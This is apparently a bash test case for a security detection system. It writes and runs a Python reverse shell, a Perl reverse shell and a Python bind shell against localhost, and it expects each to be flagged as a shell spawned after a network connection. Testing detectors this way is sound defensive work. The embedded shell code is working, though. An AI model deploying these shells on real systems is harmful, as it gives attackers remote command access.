#!/bin/bash
# desc: reverse and bind shells from script files (no telling command line): a python script that connects back and spawns sh -i, a perl script that execs sh on the socket, a python bind shell that accepts then spawns sh
# mitre: T1059.004, T1071, T1095
# expect: shell_after_network_connection*3
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

cat >rev.py <<'PY'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
PY
cat >rev.pl <<'PL'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ARGV[0]") or die;
open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
exec "/bin/sh";
PL
cat >bind.py <<'PY'
import os, socket, subprocess, sys
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", int(sys.argv[1]))); l.listen(1)
c, _ = l.accept()
subprocess.call(["/bin/sh"], stdin=c, stdout=c, stderr=c)
PY
listen_once; timeout 10 /usr/bin/python3 rev.py "$port" 2>/dev/null || true
listen_once; timeout 10 perl rev.pl "$port" 2>/dev/null || true
port=$(free_port)
timeout 10 /usr/bin/python3 bind.py "$port" &
wait_listen 127.0.0.1 "$port"
printf 'id\nexit\n' | timeout 10 nc -N 127.0.0.1 "$port" >/dev/null || true
wait
